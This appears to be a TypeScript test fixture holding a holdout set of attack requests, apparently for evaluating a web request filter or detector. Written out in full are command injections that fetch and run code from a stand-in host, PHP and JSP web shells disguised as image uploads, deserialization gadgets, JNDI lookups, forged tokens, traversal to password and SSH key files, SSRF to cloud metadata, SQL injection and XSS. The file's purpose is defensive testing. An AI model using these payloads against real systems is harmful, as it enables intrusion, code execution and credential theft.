// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the attacks have it
import { deflateSync, gzipSync } from 'node:zlib';
import { bodyRequest, type HoldoutRequest, request } from '../../support/request.ts';

const FORM = 'application/x-www-form-urlencoded';
const latin1 = (text: string): string => Buffer.from(text, 'utf8').toString('latin1');
const base64 = (text: string | Buffer): string => Buffer.from(text as string).toString('base64');
const base64url = (value: unknown): string => Buffer.from(JSON.stringify(value)).toString('base64url');
const quoted = encodeURIComponent;
const get = (target: string, ...headers: string[]): HoldoutRequest => request(target, headers.map(latin1));
const form = (fields: Readonly<Record<string, string>>, target?: string): HoldoutRequest =>
  bodyRequest(FORM, new URLSearchParams(fields).toString(), target);
const json = (document: unknown, target?: string): HoldoutRequest =>
  bodyRequest('application/json', JSON.stringify(document), target);
const xml = (text: string, target?: string): HoldoutRequest => bodyRequest('text/xml', text, target);
const by = (method: string, one: HoldoutRequest, ...headers: string[]): HoldoutRequest => ({
  ...one,
  method,
  headers: [...one.headers, ...headers.map(latin1)],
});
const token = (head: object, claims: object = { sub: '7', role: 'user' }): HoldoutRequest =>
  get('/me', 'Authorization', `Bearer ${base64url(head)}.${base64url(claims)}.c2lnbmF0dXJlMTIz`);
const bytes = (type: string, body: Buffer, target = '/desk'): HoldoutRequest => ({
  ...request(target, ['Content-Type', type, 'Content-Length', String(body.length)]),
  method: 'POST',
  body,
});
/** A file's content in Latin-1, so that its bytes are as they are written here. */
const upload = (name: string, type: string, content: string): HoldoutRequest =>
  bytes(
    'multipart/form-data; boundary=stranger',
    Buffer.from(
      `--stranger\r\nContent-Disposition: form-data; name="file"; filename="${name}"\r\nContent-Type: ${type}\r\n\r\n${content}\r\n--stranger--\r\n`,
      'latin1',
    ),
    '/upload',
  );
/** One file in a ZIP archive, stored as it is. */
function archive(name: string, content: string): string {
  const data = Buffer.from(content);
  const title = Buffer.from(name);
  const head = Buffer.alloc(30);
  head.writeUInt32LE(0x04034b50, 0);
  head.writeUInt16LE(20, 4);
  head.writeUInt32LE(data.length, 18);
  head.writeUInt32LE(data.length, 22);
  head.writeUInt16LE(title.length, 26);
  return Buffer.concat([head, title, data]).toString('latin1');
}

/** Of the set `clients`: attacks of 2024 to 2026 by what they do, and tricks that have one place only. */
export const CLIENT_WHOLE: Readonly<Record<string, HoldoutRequest>> = {
  'exploit: a command in a session of a gateway': get(
    '/ssl-vpn/hipreport.esp',
    'Cookie',
    'SESSID=/../../../opt/logs/tmp/minute/h`curl${IFS}203.0.113.77`',
  ),
  'exploit: a command behind a climb': get(
    '/api/v1/totp/user-backup-code/../../license/keys-status/%3bcurl%20203.0.113.77%7csh',
  ),
  'exploit: arguments of a CLI': bytes(
    'application/octet-stream',
    Buffer.from('\0\0\x06\0\0\x04help\0\0\x0e\0\0\x0c@/etc/passwd\0\0\0\x03', 'latin1'),
    '/cli?remoting=false',
  ),
  'exploit: a page behind a page': get('/hax?jsp=/app/rest/users;.jsp'),
  'exploit: an expression in a property': get(
    "/geoserver/wfs?service=WFS&request=GetPropertyValue&typeNames=a:b&valueReference=exec(java.lang.Runtime.getRuntime(),'id')",
  ),
  'exploit: a program of Groovy by \\u': form(
    { groovyProgram: '\\u0074\\u0068\\u0072\\u006f\\u0077 new Exception("id".execute().text);' },
    '/webtools/control/main/ProgramExport',
  ),
  'exploit: half a session file': by(
    'PUT',
    bytes('application/octet-stream', Buffer.from('aced0005737200116a61', 'hex'), '/x/session'),
    'Content-Range',
    'bytes 0-1000/1200',
  ),
  'exploit: a page of Java by PUT': by(
    'PUT',
    bodyRequest('text/plain', '<% Runtime.getRuntime().exec("id"); %>', '/a.Jsp'),
  ),
  'exploit: a middleware that was met': get(
    '/dashboard',
    'x-middleware-subrequest',
    'middleware:middleware:middleware:middleware:middleware',
  ),
  'exploit: a chunk of server components': by(
    'POST',
    bodyRequest(
      'multipart/form-data; boundary=x',
      '--x\r\nContent-Disposition: form-data; name="0"\r\n\r\n{"then":"$1:__proto__:then","status":"resolved_model","value":"{\\"then\\":\\"$B1\\"}","_response":{"_prefix":"process.mainModule.require(\'child_process\').execSync(\'id\');","_formData":{"get":"$1:constructor:constructor"}}}\r\n--x\r\nContent-Disposition: form-data; name="1"\r\n\r\n"$@0"\r\n--x--\r\n',
    ),
    'Next-Action',
    'x',
  ),
  'exploit: a decorator that runs': json(
    { code: "@exec(\"raise Exception(__import__('subprocess').check_output(['id']))\")\ndef f():\n  pass" },
    '/api/v1/validate/code',
  ),
  'exploit: a page into a portal': by(
    'POST',
    upload(
      'helper.jsp',
      'application/octet-stream',
      '<%@ page import="java.util.*" %><% Runtime.getRuntime().exec(request.getParameter("c")); %>',
    ),
  ),
  'exploit: classes of a behaviour': json(
    {
      assetId: 11,
      handle: {
        width: 1,
        'as x': {
          class: 'craft\\behaviors\\FieldLayoutBehavior',
          __class: 'GuzzleHttp\\Psr7\\FnStream',
          '__construct()': [[]],
          _fn_close: 'phpinfo',
        },
      },
    },
    '/index.php?p=actions/assets/generate-transform',
  ),
  'exploit: a name that is a session': upload(
    '!x|O:16:\\"Crypt_GPG_Engine\\":1:{s:26:\\"_gpgconf\\";s:2:\\"id\\";}',
    'image/png',
    'x',
  ),
  'exploit: a return address within': bodyRequest(
    FORM,
    `redirectFromJsp=1&getUiType=${quoted('<?xml version="1.0"?><initialize><param name="return_url">http://203.0.113.77:7201/a</param><param name="init_version_type">file:///etc/passwd</param></initialize>')}`,
    '/OA_HTML/configurator/UiServlet',
  ),
  'exploit: a name with a NUL and Lua': bodyRequest(
    FORM,
    'username=anonymous%00]]%0dlocal+h+%3d+io.popen(%22id%22)%0dlocal+r+%3d+h%3aread(%22*a%22)%0d--&password=',
    '/loginok.html',
  ),
  'exploit: SQL in a bearer': get(
    '/api/fabric/device/status',
    'Authorization',
    "Bearer AAAAAA'/**/or/**/sleep(5)--/**/-'",
  ),
  'exploit: a climb behind a mark': get('/api/v2.0/cmdb/system/admin%3f/../../../../../cgi-bin/fwbcgi'),
  'exploit: a file of a development server': get('/@fs/etc/passwd?raw??'),
  'exploit: a setting in an annotation': json(
    {
      kind: 'AdmissionReview',
      request: {
        object: {
          kind: 'Ingress',
          metadata: {
            annotations: {
              'nginx.ingress.kubernetes.io/auth-url':
                'http://a.example/#;}}}\n\nssl_engine ../../../../../proc/7/fd/9;\n#',
            },
          },
        },
      },
    },
    '/validate',
  ),
  'exploit: a time zone': form({ TIMEZONE: ';`curl 203.0.113.77`;', CMD: 'set' }, '/gsb/datetime.php'),
  'exploit: a status file': by(
    'OPTIONS',
    json({ statusfile: '/dev/null; id; #', csftoken: 'a' }, '/dns/getresetstatus'),
  ),
  'exploit: an editor of queries': json(
    {
      postId: '1',
      nonce: 'a',
      element: {
        name: 'container',
        settings: {
          hasLoop: 'true',
          query: { useQueryEditor: true, queryEditor: 'throw new Exception(`id`);' },
        },
      },
    },
    '/wp-json/bricks/v1/render_element',
  ),
  'exploit: a query as a field': form(
    { q: "INSERT INTO wp_users (user_login,user_pass) VALUES ('x','y')", auth: ' ', integ: '1' },
    '/wp-content/plugins/a/inc/csv.php',
  ),
  'exploit: an object as a title': form(
    {
      give_title: 'O:19:"Stripe\\\\StripeObject":1:{s:10:"\\0*\\0_values";a:1:{s:3:"foo";i:1;}}',
      action: 'give_process_donation',
    },
    '/wp-admin/admin-ajax.php',
  ),
  'exploit: inner folder and file': get('/?InternalDir=/../../../../windows&InternalFile=win.ini'),
  'exploit: a climb in a body': bodyRequest(
    'text/plain',
    'aCSHELL/../../../../../../../etc/shadow',
    '/clients/MyCRL',
  ),
  'exploit: a call of SOAP to a shell': xml(
    "<s:Envelope xmlns:s=\"http://schemas.xmlsoap.org/soap/envelope/\"><s:Body><UpdateStatusEvents><goodApp>string' ; EXEC xp_cmdshell 'id'--</goodApp></UpdateStatusEvents></s:Body></s:Envelope>",
    '/WSStatusEvents/EventHandler.asmx',
  ),
  'exploit: a macro of a file server': get('/?n=%0A&cmd=id&search=%25xxx%25url:%password%}{.exec|{.?cmd.}.}'),
  'exploit: a page behind a lone point': get('/npm-pwg/..;/ReconcileWizard/reconcilewizard/sc/IDACall'),
  'exploit: a layer of a model': json({ name: 'x', digest: 'sha256:../../../../../etc/passwd' }, '/api/push'),
  'exploit: Groovy in a feed': get(
    `/bin/get/Main/SolrSearch?media=rss&text=${quoted('}}}{{async async=false}}{{groovy}}println("id".execute().text){{/groovy}}{{/async}}')}`,
  ),
  'exploit: a format that is an expression': get(
    `/mifs/rs/api/v2/featureusage?format=${quoted("${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}")}`,
  ),
  'exploit: an expression of a workflow': json({
    nodes: [
      {
        parameters: {
          value:
            "={{ (function(){ return this.process.mainModule.require('child_process').execSync('id').toString() })() }}",
        },
      },
    ],
  }),
  'exploit: an entity in an address': json(
    {
      address: {
        totalsCollector: {
          collectorList: {
            totalCollector: {
              sourceData: {
                data: '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % s SYSTEM "http://203.0.113.77/d.xml">%s;]><r/>',
                options: 16,
              },
            },
          },
        },
      },
    },
    '/rest/all/V1/guest-carts/1/estimate-shipping-methods',
  ),
  'exploit: a table of a tool pane': by(
    'POST',
    form(
      {
        MSOTlPn_DWP:
          '<%@ Register Tagprefix="a" Namespace="System.Web.UI" %><a:ExcelDataSet CompressedDataTable="H4sIAAAAAAAEAO29B2AcSZYlJi9tynt/SvVK1+B0oQiAYBMk2JBAEOzBiM3mkuwdaUcjKasqgcplVmVdZhZAzO2dvPfee++999577733ujudTif33/8/XGZkAWz2zkrayZ4hgKrIHz9+fB8/Iv7Hv/cffPx7" runat="server" />',
      },
      '/_layouts/15/ToolPane.aspx?DisplayMode=Edit&a=/ToolPane.aspx',
    ),
    'Referer',
    '/_layouts/SignOut.aspx',
  ),
  'exploit: a pipe in a host name': json({ host: '127.0.0.1|id', count: 3 }, '/api/diagnostics/ping'),
  'exploit: options for a converter': json({
    url: 'https://shop.example/',
    options: { '--post-file': '/etc/passwd', 'run-script': "require('fs')" },
  }),
  'exploit: a file in a page to print': json(
    { html: '<iframe src="file:///etc/passwd" width=900></iframe>' },
    '/pdf',
  ),
  'exploit: metadata in a page to print': json(
    { html: '<link rel=attachment href="http://169.254.169.254/latest/meta-data/">' },
    '/pdf',
  ),
  'token: none of the algorithms': token({ alg: 'nonE' }, { sub: 'admin', iat: 1 }),
  'token: a key that is SQL': token({ alg: 'HS256', kid: "x' UNION SELECT 'key' -- " }),
  'token: a key that is a command': token({ alg: 'HS256', kid: '/keys/a.pem|id' }),
  'token: a key that climbs': token({ alg: 'HS256', kid: '../../public/css/main.css' }),
  'token: keys from elsewhere': token({ alg: 'RS256', jku: 'https://shop.example@203.0.113.77/jwks.json' }),
  'token: a certificate from within': token({ alg: 'RS256', x5u: 'http://127.0.0.1:8080/a.crt' }),
  'token: SQL in a claim': token({ alg: 'HS256' }, { sub: "admin' OR 2=2 -- " }),
  'token: none in a query': get(
    `/cb?id_token=${base64url({ typ: 'JWT', alg: 'none' })}.${base64url({ sub: 'admin' })}.`,
  ),
  'path: a servlet that forgets a point': get('/shop/%2e%2e;/manager/html'),
  'path: points in percent': get('/static/.%2e/.%2e/.%2e/etc/hostname'),
  'path: percent in percent': get('/static/%%32%65%%32%65/%%32%65%%32%65/etc/passwd'),
  'path: back slashes': get('/static/..%5c..%5c..%5cwindows%5cwin.ini'),
  'path: an alias without a slash': get('/static../.env'),
  'path: an environment behind a point': get('/.;/actuator/env'),
  'path: a dump of a process': get('/debug/pprof/heap?debug=1&x=/../../../proc/self/mem'),
  'path: a console of JMX': get(
    '/jolokia/exec/com.sun.management:type=DiagnosticCommand/compilerDirectivesAdd/!/etc!/passwd',
  ),
  'path: settings of a workspace': get('/.vscode/sftp.json'),
  'path: a state of infrastructure': get('/terraform.tfstate'),
  'path: a key of SSH': get('/home/.ssh/id_ed25519'),
  'file: PHP behind a picture': upload(
    'a.png',
    'image/png',
    '\x89PNG\r\n\x1a\n\0\0\0\rIHDR<?php eval($_REQUEST[0]); ?>',
  ),
  'file: PHP in a comment of a JPEG': upload(
    'a.jpg',
    'image/jpeg',
    "\xff\xd8\xff\xfe\0\x1c<?php system($_GET['c']);?>\xff\xd9",
  ),
  'file: short PHP': upload('a.gif', 'image/gif', 'GIF87a<?=`$_GET[1]`?>'),
  'file: fifth PHP': upload('a.php5', 'application/octet-stream', 'x'),
  'file: archive of PHP': upload('a.phar', 'application/octet-stream', '<?php __HALT_COMPILER(); ?>'),
  'file: page of a server': upload('a.shtml', 'text/html', '<!--#exec cmd="id" -->'),
  'file: page with a space': upload('a.jsp ', 'text/plain', '<%= 7 %>'),
  'file: archive that climbs': upload(
    'a.zip',
    'application/zip',
    archive('../../../../var/www/html/s.php', 'x'),
  ),
  'file: entity in a document': upload(
    'a.docx',
    'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
    archive(
      'word/document.xml',
      '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d>&x;</d>',
    ),
  ),
  'file: script in a PDF': upload(
    'a.pdf',
    'application/pdf',
    '%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.launchURL("http://203.0.113.77/"))>>>>endobj',
  ),
  'file: launch in a PDF': upload(
    'b.pdf',
    'application/pdf',
    '%PDF-1.4\n1 0 obj<</OpenAction<</S/Launch/Win<</F(cmd.exe)/P(/c calc)>>>>>>endobj',
  ),
  'file: a drawing that animates': upload(
    'a.svg',
    'image/svg+xml',
    '<svg xmlns="http://www.w3.org/2000/svg"><animate onbegin="alert(4)" attributeName="x" dur="1s"/></svg>',
  ),
  'file: a drawing with markup': upload(
    'b.svg',
    'image/svg+xml',
    '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(4)"/></foreignObject></svg>',
  ),
  'file: vector of ImageMagick': upload(
    'a.mvg',
    'image/png',
    'push graphic-context\nviewbox 0 0 9 9\nfill \'url(https://203.0.113.77/a.png"|id")\'\npop graphic-context',
  ),
  'file: a script of ImageMagick': upload(
    'a.msl',
    'image/png',
    '<?xml version="1.0"?><image><read filename="caption:&lt;?php system(1); ?&gt;"/><write filename="/var/www/s.php"/></image>',
  ),
  'file: a playlist that reads': upload(
    'a.m3u8',
    'application/x-mpegURL',
    '#EXTM3U\n#EXTINF:10.0,\nconcat:http://203.0.113.77/h|file:///etc/passwd\n#EXT-X-ENDLIST',
  ),
  'file: settings of a site': upload(
    'web.config',
    'text/xml',
    '<configuration><system.webServer><handlers><add name="x" path="*.config" verb="*" modules="IsapiModule" scriptProcessor="%windir%\\system32\\inetsrv\\asp.dll"/></handlers></system.webServer></configuration>',
  ),
  'file: a pickle': upload(
    'm.pkl',
    'application/octet-stream',
    '\x80\x04\x95\x1d\0\0\0\0\0\0\0\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x02id\x94\x85\x94R\x94.',
  ),
  'file: a name that is a command': upload('a;sleep 7;.jpg', 'image/jpeg', 'x'),
  'file: a name that is SQL': upload("a' OR SLEEP(7)-- .jpg", 'image/jpeg', 'x'),
  'file: a name that is markup': upload('<img src=x onerror=alert(4)>.png', 'image/png', 'x'),
  'GraphQL: a login many times': json(
    {
      query: `mutation{${Array.from({ length: 120 }, (_, at) => `a${at}:login(pin:"${at}"){token}`).join(' ')}}`,
    },
    '/graphql',
  ),
  'GraphQL: directives upon directives': json(
    { query: `query{__typename ${'@include(if:true)'.repeat(200)}}` },
    '/graphql',
  ),
  'GraphQL: a condition in an argument': json({ query: '{orders(where:"id=1 OR 1=1"){id}}' }, '/graphql'),
  'GraphQL: a command in a variable': json(
    { query: 'query($h:String){ping(host:$h)}', variables: { h: '203.0.113.77; id' } },
    '/graphql',
  ),
  'hook: an inner address': json(
    { events: ['push'], config: { url: 'http://127.0.0.1:2379/v2/keys', content_type: 'json' } },
    '/repos/a/hooks',
  ),
  'hook: an address in digits': json({ callback: 'http://0x7f.1/' }, '/jobs'),
  'question: SQL behind words': json({ question: "Show sales of May'; DROP TABLE staff; --" }, '/ask'),
  'question: a template behind words': json(
    { prompt: "Write a mail to {{ ''.__class__.__mro__[1].__subclasses__() }}" },
    '/ask',
  ),
  'question: a tool that runs': json(
    { tool: 'python', arguments: { code: "__import__('os').system('cat /etc/passwd')" } },
    '/tools/run',
  ),
  'coded: gzip of SQL in base64url': get(
    `/v?s=${gzipSync("a' UNION SELECT pw FROM staff -- ").toString('base64url')}`,
  ),
  'coded: deflate in a request of SAML': get(
    `/sso?SAMLRequest=${quoted(base64(deflateSync('<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>')))}`,
  ),
  'coded: base64 of digits': json({ d: base64(Buffer.from("' OR 2=2 -- a").toString('hex')) }),
  'coded: JSON in base64 in JSON': json({
    state: base64(JSON.stringify({ next: base64('<script>alert(4)</script>') })),
  }),
  'coded: percent in base64 in a cookie': get('/', 'Cookie', `v=${base64(quoted('<svg onload=alert(4)>'))}`),
  'coded: references in \\u': bodyRequest(
    'application/json',
    '{"a":"\\u0026lt;script\\u0026gt;alert(4)\\u0026lt;/script\\u0026gt;<b>"}',
  ),
  'odd: a key of JSON': json({ 'a"); alert(4)//': { "b' OR 2=2 -- ": 1 } }),
  'odd: a name of a cookie': get('/', 'Cookie', "a' OR 2=2 -- =1"),
  'odd: a tag of XML': xml('<o><a onmouseover="alert(4)" style="x"/></o>'),
  'odd: an instruction of XML': xml('<?php system("id"); ?><o/>'),
  'odd: a comment of XML': xml("<o><!-- --><r>1</r><![CDATA[' UNION SELECT pw FROM staff -- ]]></o>"),
  'odd: a charset': bodyRequest('application/json; charset=${jndi:ldap://203.0.113.77/a}', '{}'),
  'odd: a boundary': bodyRequest(
    "multipart/form-data; boundary=a' OR 2=2 -- ",
    '--a\' OR 2=2 -- \r\nContent-Disposition: form-data; name="a"\r\n\r\n1\r\n--a\' OR 2=2 -- --\r\n',
  ),
  'odd: a header of a part': bodyRequest(
    'multipart/form-data; boundary=x',
    '--x\r\nContent-Disposition: form-data; name="a"\r\nX-Ref: ${jndi:ldap://203.0.113.77/a}\r\n\r\n1\r\n--x--\r\n',
  ),
  'odd: an extension of a path': get(`/report.${quoted('<script>alert(4)</script>')}`),
  'odd: a sort': get(`/list?sort=${quoted('name;DROP TABLE staff')}&order=asc`),
  'odd: a column': get(`/list?columns=${quoted('id,(SELECT pw FROM staff LIMIT 1) AS x')}`),
  'odd: a host that is forwarded': get(
    '/reset',
    'X-Forwarded-Host',
    'evil.example/"><script>alert(4)</script>',
  ),
  'odd: a name of an index': get(`/list?a[${quoted("' OR 2=2 -- ")}]=1`),
  'odd: a locale': get('/', 'Accept-Language', '../../../../etc/passwd'),
  'odd: an address of a picture': get(
    '/_next/image?url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F&w=64&q=75',
  ),
  'odd: an address of a font': get(`/css?family=${quoted('a;}body{background:url(javascript:alert(4))}')}`),
};
